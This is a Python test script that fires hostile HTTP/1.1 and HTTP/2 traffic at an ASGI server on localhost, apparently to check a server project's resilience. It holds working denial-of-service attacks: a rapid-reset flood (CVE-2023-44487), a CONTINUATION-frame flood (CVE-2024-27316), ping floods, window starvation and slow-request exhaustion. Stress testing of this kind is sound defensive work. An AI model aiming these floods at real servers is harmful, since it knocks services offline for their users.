#!/usr/bin/env python3
"""Hostile traffic against an ASGI server on 127.0.0.1 (issues 17/18).

Run with Debian's /usr/bin/python3 (it has the h2 package):

    asgi_attack.py SCENARIO --port P [--tls] [--n N] [--seconds S] [--path /x]

Each scenario runs for at most --seconds with at most --n connections or
streams, then prints one JSON line: what it sent and what came back. The
target app is tests/testdata/apps/asgi_attack.py, whose /stats says what
the app started. Watch the server's RSS, descriptors and CPU beside it
(bench/RESULTS.md, "Issues 17/18: hostile traffic", has the commands).

Scenarios:
  rapid-reset     HTTP/2: HEADERS then RST_STREAM at once, --n streams per
                  connection, on 4 connections (CVE-2023-44487)
  open-streams    HTTP/2: streams opened with a body announced and never sent
  window-starve   HTTP/2: INITIAL_WINDOW_SIZE 0, ask --path, never read
  continuation    HTTP/2: HEADERS then endless CONTINUATION frames (CVE-2024-27316)
  ping-flood      HTTP/2: PING and SETTINGS frames as fast as possible, reading nothing
  slow-head       HTTP/1.1: --n connections sending their head a byte a second
  slow-body       HTTP/1.1: --n connections sending their body a byte a second
  pipeline        HTTP/1.1: one connection pipelining --n requests to --path, reading nothing
  hit-and-run     HTTP/1.1: --n connections that send a request to --path and close at once
  sse-crowd       HTTP/1.1: --n connections that open --path and read slowly
"""

import argparse
import json
import socket
import ssl
import sys
import time


def connect(a, alpn=None):
    s = socket.create_connection(('127.0.0.1', a.port), timeout=10)
    if a.tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        if alpn:
            ctx.set_alpn_protocols(alpn)
        s = ctx.wrap_socket(s, server_hostname='localhost')
    return s


def h2conn(a, settings=None):
    import h2.config
    import h2.connection
    s = connect(a, ['h2'])
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding='utf-8'))
    c.initiate_connection()
    if settings:
        c.update_settings(settings)
    s.sendall(c.data_to_send())
    return s, c


def headers(a, path, method='GET'):
    return [(':method', method), (':path', path), (':scheme', 'https' if a.tls else 'http'),
            (':authority', '127.0.0.1:%d' % a.port)]


def drain(s, c, timeout=0.0):
    """Read what is there (h2 events), without blocking longer than timeout."""
    s.settimeout(timeout)
    events = []
    try:
        while True:
            data = s.recv(65536)
            if not data:
                events.append('closed')
                break
            events += c.receive_data(data)
            out = c.data_to_send()
            if out:
                s.sendall(out)
    except (socket.timeout, BlockingIOError, ssl.SSLWantReadError):
        pass
    except Exception as e:  # noqa: BLE001 (the server may close at any time)
        events.append('error: %r' % e)
    return events


def rapid_reset(a):
    import h2.events
    from h2.errors import ErrorCodes
    sent, goaway, conns = 0, 0, 0
    end = time.time() + a.seconds
    socks = []
    while time.time() < end and sent < a.n * 4:
        if len(socks) < 4:
            socks.append(h2conn(a))
            conns += 1
        for i, (s, c) in enumerate(list(socks)):
            try:
                for _ in range(50):
                    sid = c.get_next_available_stream_id()
                    c.send_headers(sid, headers(a, a.path), end_stream=True)
                    c.reset_stream(sid, ErrorCodes.CANCEL)
                    sent += 1
                s.sendall(c.data_to_send())
                for ev in drain(s, c):
                    if isinstance(ev, h2.events.ConnectionTerminated) or ev == 'closed':
                        goaway += 1
                        raise OSError('goaway')
            except Exception:  # noqa: BLE001
                s.close()
                socks.remove((s, c))
    return {'streams': sent, 'connections': conns, 'closed_by_server': goaway}


def open_streams(a):
    """Streams whose body never comes: how many are accepted, and held how long."""
    conns, opened, refused = [], 0, 0
    end = time.time() + a.seconds
    for _ in range(max(1, a.n // 100)):
        s, c = h2conn(a)
        for _ in range(100):
            sid = c.get_next_available_stream_id()
            hs = headers(a, a.path, 'POST') + [('content-length', '1000000')]
            c.send_headers(sid, hs, end_stream=False)
            opened += 1
        s.sendall(c.data_to_send())
        conns.append((s, c))
    resets = 0
    import h2.events
    while time.time() < end:
        for s, c in conns:
            for ev in drain(s, c, 0.05):
                if isinstance(ev, h2.events.StreamReset):
                    resets += 1
                if isinstance(ev, h2.events.ResponseReceived):
                    refused += 1
    return {'connections': len(conns), 'streams': opened, 'reset_by_server': resets, 'answered': refused}


def window_starve(a):
    from h2.settings import SettingCodes
    conns, streams = [], 0
    for _ in range(max(1, a.n // 100)):
        s, c = h2conn(a, {SettingCodes.INITIAL_WINDOW_SIZE: 0})
        for _ in range(min(a.n, 100)):
            sid = c.get_next_available_stream_id()
            c.send_headers(sid, headers(a, a.path), end_stream=True)
            streams += 1
        s.sendall(c.data_to_send())
        conns.append(s)
    time.sleep(a.seconds)  # never read
    return {'connections': len(conns), 'streams': streams}


def continuation(a):
    import struct
    s = connect(a, ['h2'])
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'\x00\x00\x00\x04\x00\x00\x00\x00\x00')
    # HEADERS (no END_HEADERS) with an indexed :method GET, then CONTINUATIONs
    # each holding a literal header without indexing, never ending.
    s.sendall(struct.pack('>I', 1)[1:] + b'\x01\x01' + struct.pack('>I', 1) + b'\x82')
    field = b'\x00\x01x\x7f\x81\x7f' + b'a' * 255  # name "x", value 382 bytes
    frame = struct.pack('>I', len(field))[1:] + b'\x09\x00' + struct.pack('>I', 1) + field
    sent, end = 0, time.time() + a.seconds
    s.settimeout(0.01)
    closed = False
    while time.time() < end and not closed:
        try:
            s.sendall(frame * 16)
            sent += 16
        except OSError:
            closed = True
            break
        try:
            if s.recv(65536) == b'':
                closed = True
        except (socket.timeout, ssl.SSLWantReadError):
            pass
        except OSError:
            closed = True
    return {'continuation_frames': sent, 'closed_by_server': closed}


def ping_flood(a):
    s, c = h2conn(a)
    ping = b'\x00\x00\x08\x06\x00\x00\x00\x00\x00' + b'12345678'
    settings = b'\x00\x00\x06\x04\x00\x00\x00\x00\x00' + b'\x00\x03\x00\x00\x00\x64'
    sent, end = 0, time.time() + a.seconds
    closed = False
    s.settimeout(1)
    while time.time() < end:
        try:
            s.sendall((ping + settings) * 256)
            sent += 512
        except OSError:
            closed = True
            break
    return {'frames': sent, 'closed_by_server': closed}


def slow(a, body):
    socks = []
    for _ in range(a.n):
        try:
            socks.append(connect(a, ['http/1.1']))
        except OSError:
            break
    if body:
        head = b'POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n' % a.path.encode()
        for s in socks:
            s.sendall(head)
        payload = b'x' * 100000
    else:
        payload = b'GET %s HTTP/1.1\r\nHost: x\r\nX-Long: %s\r\n\r\n' % (a.path.encode(), b'a' * 200)
    i, end, dropped = 0, time.time() + a.seconds, 0
    alive = list(socks)
    while time.time() < end and alive:
        for s in list(alive):
            try:
                s.sendall(payload[i:i + 1])
            except OSError:
                alive.remove(s)
                dropped += 1
        i += 1
        time.sleep(1)
    return {'connections': len(socks), 'dropped_by_server': dropped, 'bytes_each': i}


def pipeline(a):
    s = connect(a, ['http/1.1'])
    req = b'GET %s HTTP/1.1\r\nHost: x\r\n\r\n' % a.path.encode()
    sent, end = 0, time.time() + a.seconds
    s.settimeout(1)
    closed = False
    while time.time() < end:
        try:
            if sent < a.n:
                s.sendall(req * 100)
                sent += 100
            else:
                time.sleep(0.1)
        except socket.timeout:
            pass  # the server reads no further: hold the connection open
        except OSError:
            closed = True
            break
    return {'pipelined': sent, 'closed_by_server': closed}


def hit_and_run(a):
    done = 0
    for _ in range(a.n):
        s = connect(a, ['http/1.1'])
        s.sendall(b'GET %s HTTP/1.1\r\nHost: x\r\n\r\n' % a.path.encode())
        s.close()
        done += 1
    return {'requests': done}


def sse_crowd(a):
    socks, refused = [], 0
    for _ in range(a.n):
        try:
            s = connect(a, ['http/1.1'])
            s.sendall(b'GET %s HTTP/1.1\r\nHost: x\r\n\r\n' % a.path.encode())
            socks.append(s)
        except OSError:
            refused += 1
    time.sleep(1)
    codes = {}
    for s in socks:
        s.settimeout(2)
        try:
            line = s.recv(64).split(b'\r\n', 1)[0].decode()
        except OSError:
            line = 'none'
        codes[line] = codes.get(line, 0) + 1
    time.sleep(a.seconds)
    return {'connections': len(socks), 'connect_failed': refused, 'status_lines': codes}


SCENARIOS = {
    'rapid-reset': rapid_reset, 'open-streams': open_streams, 'window-starve': window_starve,
    'continuation': continuation, 'ping-flood': ping_flood,
    'slow-head': lambda a: slow(a, False), 'slow-body': lambda a: slow(a, True),
    'pipeline': pipeline, 'hit-and-run': hit_and_run, 'sse-crowd': sse_crowd,
}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument('scenario', choices=sorted(SCENARIOS))
    p.add_argument('--port', type=int, required=True)
    p.add_argument('--tls', action='store_true')
    p.add_argument('--n', type=int, default=1000)
    p.add_argument('--seconds', type=float, default=10)
    p.add_argument('--path', default='/sleep?s=0.05')
    a = p.parse_args()
    t0 = time.time()
    out = SCENARIOS[a.scenario](a)
    out.update(scenario=a.scenario, seconds=round(time.time() - t0, 1))
    print(json.dumps(out))
    sys.stdout.flush()


if __name__ == '__main__':
    main()
